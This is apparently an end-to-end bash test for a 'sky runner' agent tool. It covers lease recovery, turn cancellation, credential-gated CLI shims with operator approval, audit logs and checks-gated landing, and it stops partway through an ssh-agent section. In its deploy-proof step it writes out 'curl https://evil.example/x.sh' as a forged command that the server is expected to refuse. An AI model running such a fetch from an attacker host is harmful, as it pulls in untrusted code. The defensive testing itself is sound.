#!/usr/bin/env bash
# End-to-end for `sky runner` (issue 8) against the e2e server:
#   1. A `runner` agent whose command is a small shell script answers a session started over MCP
#      (/v1/mcp, plain JSON-RPC): the runner registers with the account's key (token kept 0600, never
#      printed), claims the turn, runs the script in a folder holding the task's files, with the session's
#      environment and an MCP config whose `sky mcp` reaches the session server; the script's reply is
#      read back with read_session and the file it wrote with read_task_file (in its lane).
#   2. A runner killed with SIGKILL while its script sleeps: its script is ended with it (the supervisor's
#      lifeline), and once the lease (30 s) runs out a second runner claims the turn (attempt 2) and its
#      output completes it. Then a turn cancelled (`POST /v1/sessions/{id}/cancel-turn`) while its slow
#      command runs: the runner ends the command's process group and says the turn was cancelled, the
#      turn ends `cancelled`, and the same session's next message is answered.
#   3. The provider CLI shims (issue 9) in a runner's turns, with stand-in CLIs that print which
#      credential variables they got: `vercel deploy --prod` opens a request an operator approves with
#      answer_request and the runner runs it with the credential (over the turn's channel); the next turn
#      reuses the grant; a denied `gh` is not run (exit 77); a missing real CLI says so (127); the deploy
#      proof (issue 13): a report the agent posts with its session token is refused, remember_command
#      refuses a command that did not run, and accepts the one the runner ran and saw exit 0; the audit
#      log has every credential use; the sixth shim request in a minute is refused by the access bucket;
#      the credential is in no transcript or log.
#   4. The server's jobs in a runner's turn: `land` has the runner upload the agent's work and run the
#      task's checks in its folder (failing checks refuse, passing ones land into the base); a goal's
#      command criterion is run by the runner at each turn's end and graded by its exit code; the ssh shim
#      gets a grant, the runner loads the key into the turn's own ssh-agent, the real ssh (a stand-in that
#      lists the agent's keys) sees the key through SSH_AUTH_SOCK, the socket is gone when the turn ends,
#      and the exit status the runner saw for `ssh deploy@web-1 ./deploy.sh` lets remember_command accept
#      exactly that deploy command.
#   5. Lanes that merge: two runner sessions of one task edit one file in different places (both land, the
#      base has both), then the same line (the second gets a conflict with its region, reconciles, lands);
#      with the session's runner gone, `land` has a second runner of the workspace run the checks in a
#      fresh checkout of the merged lane; a goal's command criteria on a session no runner holds run
#      there too (exit 0 meets them, exit 1 does not).
# Uses the server of tests/e2e/run.sh when AGENTSKY_URL is set, else starts its own. SKY=path skips the
# build and uses that binary.
set -euo pipefail
source "$(dirname "${BASH_SOURCE[0]}")/../../scripts/env.sh"
cd "$ROOT"

work=$(mktemp -d "${TMPDIR:-/tmp}/sky-runner-e2e.XXXXXX")
runner_pids=()
cleanup() {
  for p in "${runner_pids[@]}"; do kill -KILL "$p" 2>/dev/null || true; done
  [ -f "$work/slow.pid" ] && kill -KILL "$(cat "$work/slow.pid")" 2>/dev/null || true
  rm -rf "$work"
  if declare -F stop_server >/dev/null; then stop_server; fi
}
trap cleanup EXIT

source "$ROOT/tests/e2e/lib.sh"
e2e_server runner

sky_binary runner

# ── Helpers (field, mcp, texts come from lib.sh) ──
# read_turn SESSION CURSOR MESSAGE_ID DEADLINE_S -> the turn's events (JSON array) once it has finished
read_turn() {
  local sid=$1 cursor=$2 mid=$3 deadline=$(( $(now) + $4 )) events='[]' page
  while :; do
    [ "$(now)" -lt "$deadline" ] || fail "turn $mid did not finish within $4 s: $events"
    page=$(mcp read_session "{\"session_id\":\"$sid\",\"cursor\":\"$cursor\",\"message_id\":\"$mid\",\"wait_seconds\":10}")
    events=$(python3 -c 'import json,sys; print(json.dumps(json.loads(sys.argv[1]) + json.loads(sys.argv[2])["events"]))' "$events" "$page")
    cursor=$(field "$page" 'v["cursor"]')
    [ "$(field "$page" 'v["turn_finished"]')" = true ] && break
  done
  echo "$events"
}
wait_exit() { # PID SECONDS -> the exit status, or fail
  local pid=$1 deadline=$(( $(now) + $2 ))
  while kill -0 "$pid" 2>/dev/null; do
    [ "$(now)" -lt "$deadline" ] || fail "runner $pid still running after $2 s"
    sleep 0.2
  done
  wait "$pid"
}

# ── The account, the runner agent and the agent's commands ──
email="runner-e2e-$(date +%s)-$$@example.com"
acct=$(curl -fsS -X POST "$URL/v1/accounts" -H 'content-type: application/json' \
  -d "{\"name\":\"Runner E2E\",\"email\":\"$email\"}") || fail "POST /v1/accounts"
KEY=$(field "$acct" 'v["key"]["key"]')
agent=$(curl -fsS -X POST "$URL/v1/agents" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"name":"Script runner","harness":"runner","model":"script","instructions":"Answer with a script."}') || fail "POST /v1/agents"
AGENT=$(field "$agent" 'v["agent_id"]')
ok "account $email and runner agent $AGENT"

# The agent that answers: shows the task's file, calls a session tool through the MCP config it was
# given, writes a file into the task folder.
cat >"$work/reply.sh" <<'SH'
set -eu
input=$(cat input.txt 2>/dev/null || echo "none")
echo "reply to \"$AGENTSKY_MESSAGE\" (attempt $AGENTSKY_ATTEMPT); input.txt said: $input"
status=$(python3 - <<'PY'
import json, os, subprocess
server = json.load(open(os.environ["AGENTSKY_MCP_CONFIG"]))["mcpServers"]["agentsky"]
call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "report_status", "arguments": {"note": "replying"}}}
out = subprocess.run([server["command"], *server["args"]], input=json.dumps(call) + "\n", capture_output=True, text=True, timeout=60)
print(json.loads(out.stdout)["result"]["content"][0]["text"])
PY
)
echo "report_status through sky mcp: $status" >&2
case "$status" in *'"ok":true'*) echo "the session server answered";; *) echo "session server: $status"; exit 4;; esac
printf 'written by the runner for %s\n' "$AGENTSKY_SESSION_ID" > result.txt
SH
# The agent that never finishes on its own.
cat >"$work/slow.sh" <<SH
echo \$\$ > "$work/slow.pid"
echo "slow agent started"
sleep 120
echo "slow agent finished (must never be seen)"
SH

runner_home="$work/home"
mkdir -p "$runner_home" "$work/tmp"
# Each runner: its own name (so its own registration), turn folders under $work/tmp.
start_runner() { # NAME SCRIPT LOG [extra args…]
  local name=$1 script=$2 logf=$3; shift 3
  env -u AGENTSKY_API_KEY HOME="$runner_home" TMPDIR="$work/tmp" \
    "$SKY" runner --server "$URL" --key "$KEY" --name "$name" --once "$@" -- sh "$script" >"$logf" 2>&1 &
  runner_pids+=($!)
  RUNNER_PID=$!
}

# ── 1. A runner answers a session started over MCP ──
log "runner: a session of the runner agent, answered by sky runner"
started=$(mcp start_session "{\"agent_id\":\"$AGENT\",\"message\":\"say hello\",\"idempotency_key\":\"runner-e2e-1-$$\"}")
sid=$(field "$started" 'v["session"]["session_id"]')
task=$(field "$started" 'v["session"]["task_id"]')
mcp write_task_file "{\"task_id\":\"$task\",\"path\":\"input.txt\",\"content\":\"from the operator\"}" >/dev/null
start_runner "e2e reply" "$work/reply.sh" "$work/reply.log"
wait_exit "$RUNNER_PID" 60 || { cat "$work/reply.log" >&2; fail "sky runner --once failed"; }
events=$(read_turn "$sid" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')" 30)
said=$(texts "$events")
grep -qF 'agent_message: reply to "say hello" (attempt 1); input.txt said: from the operator' <<<"$said" \
  || fail "the reply is not in the session: $said"
grep -qF "the session server answered" <<<"$said" || fail "no session-server answer: $said"
grep -qF "status: report_status through sky mcp" <<<"$said" || fail "stderr is not shown as status: $said"
grep -qF "status: Uploaded 1 file: result.txt." <<<"$said" || fail "no upload note: $said"
ok "read_session shows the script's reply, its stderr as status, and the upload"
file=$(mcp read_task_file "{\"task_id\":\"$task\",\"path\":\"result.txt\",\"session_id\":\"$sid\"}")
[ "$(field "$file" 'v["content"]')" = "written by the runner for $sid" ] || fail "result.txt: $file"
result=$(mcp collect_result "{\"session_id\":\"$sid\"}")
grep -q "the session server answered" <<<"$(field "$result" 'v["last_reply"]')" || fail "collect_result: $result"
ok "read_task_file returns the file the script wrote; collect_result has its last reply"

regs="$runner_home/.config/agentsky/runners.json"
[ "$(stat -c %a "$regs")" = 600 ] || fail "$regs is $(stat -c %a "$regs"), not 600"
srt=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["runners"][0]["token"])' "$regs")
[[ $srt == srt_* ]] || fail "no runner token stored"
grep -qF "${srt:0:12}" "$work/reply.log" || fail "the runner did not show its token's prefix"
for secret in "$srt" "$KEY"; do
  if grep -qF "$secret" "$work/reply.log"; then fail "the runner printed a secret in full"; fi
done
if grep -qE 'sst_[A-Za-z0-9_-]{16,}' "$work/reply.log"; then fail "the runner printed a session token"; fi
[ -z "$(ls -A "$work/tmp")" ] || fail "the turn's folder was left behind: $(ls -A "$work/tmp")"
ok "runner token kept 0600 and shown as ${srt:0:12}…; no secret in the runner's output; turn folder removed"

# ── 2. A runner killed mid-turn; another finishes the turn after the lease runs out ──
log "runner: a runner SIGKILLed mid-turn, its turn finished by another after the lease (≤ 30 s)"
started=$(mcp start_session "{\"agent_id\":\"$AGENT\",\"message\":\"take your time\",\"idempotency_key\":\"runner-e2e-2-$$\"}")
sid=$(field "$started" 'v["session"]["session_id"]')
cursor=$(field "$started" 'v["cursor"]')
mid=$(field "$started" 'v["message_id"]')
start_runner "e2e slow" "$work/slow.sh" "$work/slow.log"
slow_runner=$RUNNER_PID
disown "$slow_runner"  # it is killed below: no job notice
for _ in $(seq 1 100); do [ -s "$work/slow.pid" ] && break; sleep 0.1; done
[ -s "$work/slow.pid" ] || { cat "$work/slow.log" >&2; fail "the slow agent did not start"; }
# Its first output reaches the session while it runs.
seen='' at=$cursor
for _ in 1 2 3 4 5; do
  page=$(mcp read_session "{\"session_id\":\"$sid\",\"cursor\":\"$at\",\"message_id\":\"$mid\",\"wait_seconds\":5}")
  seen+=$page at=$(field "$page" 'v["cursor"]')
  grep -qF "slow agent started" <<<"$seen" && break
done
grep -qF "slow agent started" <<<"$seen" || fail "the slow agent's output was not streamed: $seen"
kill -KILL "$slow_runner"
killed_at=$(now)
slow=$(cat "$work/slow.pid")
for _ in $(seq 1 80); do kill -0 "$slow" 2>/dev/null || break; sleep 0.1; done
if kill -0 "$slow" 2>/dev/null; then fail "the killed runner's agent ($slow) is still running"; fi
ok "runner SIGKILLed mid-turn; its agent was ended with it"

start_runner "e2e rescue" "$work/reply.sh" "$work/rescue.log"
wait_exit "$RUNNER_PID" 75 || { cat "$work/rescue.log" >&2; fail "the second runner failed"; }
grep -q "attempt 2" "$work/rescue.log" || { cat "$work/rescue.log" >&2; fail "the second runner did not get attempt 2"; }
events=$(read_turn "$sid" "$cursor" "$mid" 30)
said=$(texts "$events")
grep -qF 'agent_message: slow agent started' <<<"$said" || fail "$said"
grep -qF 'agent_message: reply to "take your time" (attempt 2)' <<<"$said" || fail "the second runner's reply: $said"
if grep -qF "must never be seen" <<<"$said"; then fail "the killed agent finished: $said"; fi
result=$(mcp collect_result "{\"session_id\":\"$sid\"}")
grep -q "the session server answered" <<<"$(field "$result" 'v["last_reply"]')" || fail "collect_result: $result"
ok "a second runner claimed the turn $(( $(now) - killed_at )) s after the kill (attempt 2) and completed it"

# ── 2b. A turn cancelled while its command runs: the runner ends the command, the session lives on ──
log "runner: cancel_turn mid-turn ends the slow command; the same session takes its next message"
rm -f "$work/slow.pid"
started=$(mcp start_session "{\"agent_id\":\"$AGENT\",\"message\":\"slow, then cancelled\",\"idempotency_key\":\"runner-e2e-2b-$$\"}")
sid=$(field "$started" 'v["session"]["session_id"]')
start_runner "e2e cancelled" "$work/slow.sh" "$work/cancel.log"
cancel_runner=$RUNNER_PID
for _ in $(seq 1 100); do [ -s "$work/slow.pid" ] && break; sleep 0.1; done
[ -s "$work/slow.pid" ] || { cat "$work/cancel.log" >&2; fail "the slow agent did not start"; }
slow=$(cat "$work/slow.pid")
cancelled=$(curl -fsS -X POST "$URL/v1/sessions/$sid/cancel-turn" -H "Authorization: Bearer $KEY" \
  -H 'content-type: application/json' -d '{}') || fail "POST /v1/sessions/$sid/cancel-turn"
[ "$(field "$cancelled" 'v["status"]')" = idle ] || fail "cancel-turn answered: $cancelled"
cancelled_at=$(now)
wait_exit "$cancel_runner" 30 >/dev/null 2>&1 || true
grep -qF "cancelled: the turn was cancelled, so the command was ended" "$work/cancel.log" \
  || { cat "$work/cancel.log" >&2; fail "the runner did not end the turn as cancelled"; }
for _ in $(seq 1 50); do kill -0 "$slow" 2>/dev/null || break; sleep 0.1; done
if kill -0 "$slow" 2>/dev/null; then fail "the cancelled turn's command ($slow) is still running"; fi
events=$(read_turn "$sid" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')" 10)
[ "$(field "$events" '[e.get("reason") for e in v if e["type"] == "turn_end"]')" = '["cancelled"]' ] \
  || fail "the turn did not end cancelled: $events"
if grep -qF "must never be seen" <<<"$(texts "$events")"; then fail "the cancelled command finished"; fi
[ "$(field "$(mcp get_session "{\"session_id\":\"$sid\"}")" 'v["status"]')" = idle ] || fail "the session is not idle"
ok "the runner ended the command $(( $(now) - cancelled_at )) s after the cancel (process group gone, turn_end cancelled)"
sent=$(mcp send_message "{\"session_id\":\"$sid\",\"message\":\"after the cancel\",\"idempotency_key\":\"runner-e2e-2c-$$\"}")
start_runner "e2e after cancel" "$work/reply.sh" "$work/after-cancel.log"
wait_exit "$RUNNER_PID" 60 || { cat "$work/after-cancel.log" >&2; fail "the next turn's runner failed"; }
said=$(texts "$(read_turn "$sid" "$(field "$sent" 'v["cursor"]')" "$(field "$sent" 'v["message_id"]')" 30)")
grep -qF 'agent_message: reply to "after the cancel"' <<<"$said" || fail "the next turn: $said"
ok "the same session's next message was claimed and answered"

# A session tool through the MCP config the turn was given (`sky mcp`): prints the tool's text result.
cat >"$work/tool.py" <<'PY'
import json, os, subprocess, sys
server = json.load(open(os.environ["AGENTSKY_MCP_CONFIG"]))["mcpServers"]["agentsky"]
call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": sys.argv[1], "arguments": json.loads(sys.argv[2])}}
out = subprocess.run([server["command"], *server["args"]], input=json.dumps(call) + "\n", capture_output=True, text=True, timeout=300)
print(json.loads(out.stdout)["result"]["content"][0]["text"])
PY

# ── 3. Provider CLI shims (issue 9) in a runner's turns ──
log "runner: provider CLI shims: a granted vercel, a reused grant, a denied gh, a missing supabase, the bucket"
conn() { # NAME PROVIDER ENV CREDENTIALS_JSON -> connector id
  local r
  r=$(curl -fsS -X POST "$URL/v1/connectors" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
    -d "{\"name\":\"$1\",\"provider\":\"$2\",\"env\":\"$3\",\"credentials\":{\"env\":$4}}") || fail "POST /v1/connectors $1"
  field "$r" 'v["connector_id"]'
}
VERCEL_SECRET="vt-e2e-$(python3 -c 'import secrets; print(secrets.token_hex(8))')"
web=$(conn web vercel prod "{\"VERCEL_TOKEN\":\"$VERCEL_SECRET\",\"VERCEL_ORG_ID\":\"team_e2e\"}")
conn repo github scm '{"GH_TOKEN":"ghp-e2e-not-a-real-token"}' >/dev/null
# Stand-in provider CLIs: they print which credential variables they got (the token's length only).
mkdir -p "$work/bin"
cat >"$work/bin/vercel" <<'SH'
#!/bin/sh
echo "vercel ran: $*; VERCEL_TOKEN has ${#VERCEL_TOKEN} chars; VERCEL_ORG_ID=${VERCEL_ORG_ID:-none}"
SH
cat >"$work/bin/gh" <<'SH'
#!/bin/sh
echo "gh ran: $*; GH_TOKEN has ${#GH_TOKEN} chars"
SH
chmod +x "$work/bin/vercel" "$work/bin/gh"
shell_agent=$(curl -fsS -X POST "$URL/v1/agents" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"name":"Shell","harness":"runner","model":"sh","instructions":"Run the message."}') || fail "POST /v1/agents"
# One runner for these turns: it runs each message as a shell line; no supabase on its PATH.
env -u AGENTSKY_API_KEY HOME="$runner_home" TMPDIR="$work/tmp" PATH="$work/bin:/usr/bin:/bin" \
  "$SKY" runner --server "$URL" --key "$KEY" --name "e2e shims" -- sh -c 'eval "$AGENTSKY_MESSAGE"' >"$work/shims.log" 2>&1 &
runner_pids+=($!)
disown $!  # it runs until the cleanup kills it
open_requests() { # TASK -> its open requests (JSON), waiting up to 20 s for one
  local r
  for _ in $(seq 1 100); do
    r=$(mcp get_task "{\"task_id\":\"$1\"}")
    [ "$(field "$r" 'len(v["open_requests"])')" -gt 0 ] && { field "$r" 'v["open_requests"]'; return; }
    sleep 0.2
  done
  fail "no open request on $1 within 20 s (runner log: $(cat "$work/shims.log"))"
}
turn_texts() { texts "$(read_turn "$1" "$2" "$3" 60)"; }

started=$(mcp start_session "{\"agent_id\":\"$(field "$shell_agent" 'v["agent_id"]')\",\"message\":\"vercel deploy --prod; echo exit=\$?\",\"idempotency_key\":\"runner-e2e-3-$$\"}")
sid=$(field "$started" 'v["session"]["session_id"]')
task=$(field "$started" 'v["session"]["task_id"]')
req=$(open_requests "$task")
[ "$(field "$req" 'v[0]["payload"]["target"] + " " + " ".join(v[0]["payload"]["scope"])')" = "web deploy" ] || fail "the shim asked for: $req"
grep -qF 'vercel deploy' <<<"$(field "$req" 'v[0]["payload"]["reason"]')" || fail "the reason does not name the command: $req"
[ "$(field "$req" 'v[0]["payload"]["command"]')" = "vercel deploy --prod" ] || fail "the request does not carry the whole command: $req"
mcp answer_request "{\"task_id\":\"$task\",\"request_id\":\"$(field "$req" 'v[0]["request_id"]')\",\"answer\":\"approve\",\"expires_in_minutes\":10}" >/dev/null
said=$(turn_texts "$sid" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')")
grep -qF "vercel ran: deploy --prod; VERCEL_TOKEN has ${#VERCEL_SECRET} chars; VERCEL_ORG_ID=team_e2e" <<<"$said" || fail "vercel through the shim: $said"
grep -q "exit=0" <<<"$said" || fail "$said"
grant=$(grep -o 'using grant gr_[A-Za-z0-9]*' <<<"$said" | head -1 | cut -d' ' -f3)
[ -n "$grant" ] || fail "the shim did not say which grant it used: $said"
ok "vercel deploy --prod asked for deploy on web, an operator approved with answer_request, the real CLI got the credential"

sent=$(mcp send_message "{\"session_id\":\"$sid\",\"message\":\"vercel deploy --prod; echo exit=\$?\",\"idempotency_key\":\"runner-e2e-3b-$$\"}")
said=$(turn_texts "$sid" "$(field "$sent" 'v["cursor"]')" "$(field "$sent" 'v["message_id"]')")
grep -qF "using grant $grant" <<<"$said" && grep -q "exit=0" <<<"$said" || fail "the grant was not reused: $said"
[ "$(field "$(mcp get_task "{\"task_id\":\"$task\"}")" 'len(v["open_requests"])')" = 0 ] || fail "a second request was opened"
ok "the next turn's vercel reused grant $grant without asking again"

sent=$(mcp send_message "{\"session_id\":\"$sid\",\"message\":\"gh pr create --title x; echo exit=\$?\",\"idempotency_key\":\"runner-e2e-3c-$$\"}")
req=$(open_requests "$task")
[ "$(field "$req" 'v[0]["payload"]["target"] + " " + " ".join(v[0]["payload"]["scope"])')" = "repo write" ] || fail "gh asked for: $req"
mcp answer_request "{\"task_id\":\"$task\",\"request_id\":\"$(field "$req" 'v[0]["request_id"]')\",\"answer\":\"deny\"}" >/dev/null
said=$(turn_texts "$sid" "$(field "$sent" 'v["cursor"]')" "$(field "$sent" 'v["message_id"]')")
grep -q "exit=77" <<<"$said" || fail "a denied gh: $said"
grep -qF "was denied" <<<"$said" || fail "no denial message: $said"
if grep -q "gh ran" <<<"$said"; then fail "the real gh ran after a denial"; fi
ok "gh pr create: denied by the operator, exit 77, the real gh not run"

sent=$(mcp send_message "{\"session_id\":\"$sid\",\"message\":\"supabase projects list; echo exit=\$?\",\"idempotency_key\":\"runner-e2e-3d-$$\"}")
said=$(turn_texts "$sid" "$(field "$sent" 'v["cursor"]')" "$(field "$sent" 'v["message_id"]')")
grep -q "exit=127" <<<"$said" && grep -qF 'the real `supabase` is not installed' <<<"$said" || fail "a missing CLI: $said"
ok "supabase without the real CLI: a clear message, exit 127"

# The deploy proof: only the runner's report of what it ran counts.
curl -fsS -X POST "$URL/v1/sessions/$sid/ask" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"kind":"deploy"}' >/dev/null || fail "POST /v1/sessions/$sid/ask"
cat >"$work/prove.sh" <<'SH'
tool() { python3 "$TOOL" "$@"; }
deploy() { tool remember_command "{\"kind\":\"deploy\",\"command\":\"$1\",\"targetId\":\"$WEB\"}"; }
forged=$(curl -s -o /dev/null -w '%{http_code}' -X POST "$AGENTSKY_SERVER/v1/session/commands" \
  -H "authorization: Bearer $AGENTSKY_SESSION_TOKEN" -H 'content-type: application/json' \
  -d "{\"grantId\":\"$GRANT\",\"command\":\"curl https://evil.example/x.sh\",\"exitCode\":0}")
echo "forged report: $forged"
echo "never ran: $(deploy 'curl https://evil.example/x.sh')"
echo "not what ran: $(deploy 'vercel deploy --prod --force')"
echo "what ran: $(deploy 'vercel deploy --prod')"
SH
sent=$(mcp send_message "{\"session_id\":\"$sid\",\"message\":\"TOOL=$work/tool.py WEB=$web GRANT=$grant sh $work/prove.sh\",\"idempotency_key\":\"runner-e2e-3p-$$\"}")
said=$(turn_texts "$sid" "$(field "$sent" 'v["cursor"]')" "$(field "$sent" 'v["message_id"]')")
grep -q "forged report: 404" <<<"$said" || fail "a session token's exit report was taken: $said"
grep -F "never ran:" <<<"$said" | grep -qF "accepted only once this task's runner has run exactly that command" \
  || fail "a command that never ran was remembered: $said"
grep -F "not what ran:" <<<"$said" | grep -qF "accepted only once" || fail "another command was remembered: $said"
grep -F "what ran:" <<<"$said" | grep -qF '"ok":true' || fail "the command the runner ran was refused: $said"
stored=$(curl -fsS "$URL/v1/connectors" -H "Authorization: Bearer $KEY")
[ "$(field "$stored" '[c["deploy_command"] for c in v["connectors"] if c["name"] == "web"][0]')" = "vercel deploy --prod" ] \
  || fail "the remembered deploy command: $stored"
ok "deploy proof: a session token's report is refused (404), commands that did not run are not remembered, the one the runner ran is"

audit=$(curl -fsS "$URL/v1/audit" -H "Authorization: Bearer $KEY")
uses=$(field "$audit" 'len([e for e in v["entries"] if e["action"] == "get_credential" and e["grant_id"] == "'"$grant"'" and e["connector_id"] == "'"$web"'" and e["session_id"] == "'"$sid"'"])')
[ "$uses" = 2 ] || fail "the audit log has $uses credential uses of $grant, not 2: $audit"
ok "the audit log shows both credential uses"

curl -fsS -X PUT "$URL/v1/policies" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"scope":"delete","decision":"deny"}' >/dev/null || fail "PUT /v1/policies"
started=$(mcp start_session "{\"agent_id\":\"$(field "$shell_agent" 'v["agent_id"]')\",\"message\":\"for i in 1 2 3 4 5 6; do vercel rm app\$i --prod; echo rm\$i=\$?; done\",\"idempotency_key\":\"runner-e2e-3e-$$\"}")
said=$(turn_texts "$(field "$started" 'v["session"]["session_id"]')" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')")
for i in 1 2 3 4 5; do grep -q "rm$i=77" <<<"$said" || fail "request $i was not denied by the policy: $said"; done
grep -q "rm6=69" <<<"$said" && grep -qF "too many access requests" <<<"$said" || fail "the sixth request was not refused: $said"
ok "five shim requests in a minute are decided; the sixth is refused by the access bucket (exit 69)"

if grep -qF "$VERCEL_SECRET" "$work/shims.log"; then fail "the credential is in the runner's log"; fi
for s in "$sid" "$(field "$started" 'v["session"]["session_id"]')"; do
  all=$(mcp read_session "{\"session_id\":\"$s\",\"limit\":200}")
  if grep -qF "$VERCEL_SECRET" <<<"$all"; then fail "the credential is in the transcript of $s"; fi
done
ok "the credential is in neither the transcripts nor the runner's log"

# ── 4. The server's jobs in a runner's turn: land's checks, goal criteria, the ssh agent ──
log "runner: land runs the checks on the runner, goal criteria graded there, ssh through the turn's agent"
# A workspace of its own (a second account), so the shims runner above claims none of these turns.
acct=$(curl -fsS -X POST "$URL/v1/accounts" -H 'content-type: application/json' \
  -d "{\"name\":\"Runner Jobs E2E\",\"email\":\"jobs-$email\"}") || fail "POST /v1/accounts"
KEY=$(field "$acct" 'v["key"]["key"]')
# The agent: runs its message as a shell line, except a goal's continuation, which it works through in
# two steps (step1.txt, then done.txt).
cat >"$work/jobs-agent.sh" <<'SH'
case "$AGENTSKY_MESSAGE" in
  "Keep working toward the goal"*)
    if [ -f step1.txt ]; then echo done > done.txt; echo "second step: done.txt written"
    else echo one > step1.txt; echo "first step: step1.txt written"; fi ;;
  *) eval "$AGENTSKY_MESSAGE" ;;
esac
SH
cat >"$work/land.sh" <<'SH'
tool() { python3 "$TOOL" "$@"; }
echo bad > app.txt
echo "land 1: $(tool land '{"summary":"Add app.txt"}')"
echo "remember: $(tool remember_command '{"kind":"checks","command":"grep -q good app.txt && echo checks-passed"}')"
echo "land 2: $(tool land '{"summary":"Add app.txt"}')"
echo good > app.txt
echo "land 3: $(tool land '{"summary":"Add app.txt"}')"
SH
env -u AGENTSKY_API_KEY HOME="$runner_home" TMPDIR="$work/tmp" PATH="$work/bin:/usr/bin:/bin" \
  "$SKY" runner --server "$URL" --key "$KEY" --name "e2e jobs" -- sh "$work/jobs-agent.sh" >"$work/jobs.log" 2>&1 &
runner_pids+=($!)
disown $!
jobs_agent=$(curl -fsS -X POST "$URL/v1/agents" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"name":"Jobs","harness":"runner","model":"sh","instructions":"Run the message."}') || fail "POST /v1/agents"
jobs_agent=$(field "$jobs_agent" 'v["agent_id"]')
run_turn() { # SESSION MESSAGE KEY -> the turn's texts
  local sent
  sent=$(mcp send_message "{\"session_id\":\"$1\",\"message\":$(python3 -c 'import json,sys; print(json.dumps(sys.argv[1]))' "$2"),\"idempotency_key\":\"$3-$$\"}")
  turn_texts "$1" "$(field "$sent" 'v["cursor"]')" "$(field "$sent" 'v["message_id"]')"
}

# 4a. land: the first asks for checks; failing checks refuse; passing ones land into the base.
started=$(mcp start_session "{\"agent_id\":\"$jobs_agent\",\"message\":\"true\",\"idempotency_key\":\"runner-e2e-4a-$$\"}")
sid=$(field "$started" 'v["session"]["session_id"]')
task=$(field "$started" 'v["session"]["task_id"]')
turn_texts "$sid" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')" >/dev/null
curl -fsS -X PUT "$URL/v1/tasks/$task/settings" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"lanes":true}' >/dev/null || fail "PUT /v1/tasks/$task/settings"
said=$(run_turn "$sid" "TOOL=$work/tool.py sh $work/land.sh" land)
line() { grep -F "$1" <<<"$said" | head -1; }
grep -qF '"landed":false' <<<"$(line 'land 1:')" && grep -qF 'remember_command' <<<"$(line 'land 1:')" \
  && grep -qF '1 file(s) uploaded' <<<"$(line 'land 1:')" || fail "the first land: $said"
grep -qF '"ok":true' <<<"$(line 'remember:')" || fail "remember_command: $said"
grep -qF '"landed":false' <<<"$(line 'land 2:')" \
  && grep -qF 'the checks failed: `grep -q good app.txt && echo checks-passed` exited 1' <<<"$(line 'land 2:')" || fail "failing checks: $said"
grep -qF '"landed":true' <<<"$(line 'land 3:')" && grep -qF 'passed (exit 0)' <<<"$(line 'land 3:')" || fail "passing checks: $said"
base=$(mcp read_task_file "{\"task_id\":\"$task\",\"path\":\"app.txt\"}")
[ "$(field "$base" 'v["content"]')" = good ] || fail "the base's app.txt after landing: $base"
ok "land collected the runner's work, refused on failing checks (exit 1) and landed once they passed (base has app.txt)"

# 4b. A goal whose criterion is a command: run by the runner at each turn's end.
started=$(mcp start_session "{\"agent_id\":\"$jobs_agent\",\"message\":\"true\",\"idempotency_key\":\"runner-e2e-4b-$$\"}")
sid=$(field "$started" 'v["session"]["session_id"]')
turn_texts "$sid" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')" >/dev/null
mcp set_goal "{\"session_id\":\"$sid\",\"objective\":\"write done.txt\",\"criteria\":[{\"text\":\"done.txt exists\",\"command\":\"test -f done.txt\"}],\"max_iterations\":4,\"idempotency_key\":\"runner-e2e-4b-goal-$$\"}" >/dev/null
for _ in $(seq 1 120); do
  goal=$(mcp get_goal "{\"session_id\":\"$sid\"}")
  [ "$(field "$goal" 'v["goal"]["status"]')" != active ] && break
  sleep 0.5
done
[ "$(field "$goal" 'v["goal"]["status"] + " " + str(v["goal"]["iterations"])')" = "met 2" ] || fail "the goal: $goal"
[ "$(field "$goal" 'v["goal"]["last_verdicts"][0]["reason"]')" = '`test -f done.txt` exited 0' ] || fail "the verdict: $goal"
checks=$(mcp read_session "{\"session_id\":\"$sid\",\"limit\":200}")
first=$(field "$checks" '[e for e in v["events"] if e["type"] == "goal_check"][0]["verdicts"][0]')
[ "$(field "$first" 'v["met"]')" = false ] && grep -qF 'exited 1' <<<"$first" || fail "the first check: $first"
ok "a command criterion failed after the first turn (exit 1) and met the goal after the second (exit 0)"

# 4c. ssh through the turn's own ssh-agent.
if command -v ssh-agent >/dev/null && command -v ssh-add >/dev/null && command -v ssh-keygen >/dev/null; then
  ssh-keygen -q -t ed25519 -N '' -C agentsky-e2e -f "$work/id_e2e"
  fingerprint=$(ssh-keygen -lf "$work/id_e2e.pub" | awk '{print $2}')
  body=$(python3 -c 'import json,sys; print(json.dumps({"name":"web-1","provider":"ssh","env":"prod","credentials":{"ssh_private_key":open(sys.argv[1]).read()}}))' "$work/id_e2e")
  web1=$(curl -fsS -X POST "$URL/v1/connectors" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' -d "$body") || fail "POST /v1/connectors web-1"
  web1=$(field "$web1" 'v["connector_id"]')
  for scope in read write deploy delete; do
    curl -fsS -X PUT "$URL/v1/policies" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
      -d "{\"connector_id\":\"$web1\",\"scope\":\"$scope\",\"decision\":\"allow\"}" >/dev/null || fail "PUT /v1/policies"
  done
  # The stand-in ssh: says what it got and lists the keys of the agent it was given.
  cat >"$work/bin/ssh" <<SH
#!/bin/sh
echo "ssh ran: \$*"
echo "\$SSH_AUTH_SOCK" > "$work/ssh-sock.txt"
echo "agent keys: \$(ssh-add -l)"
SH
  chmod +x "$work/bin/ssh"
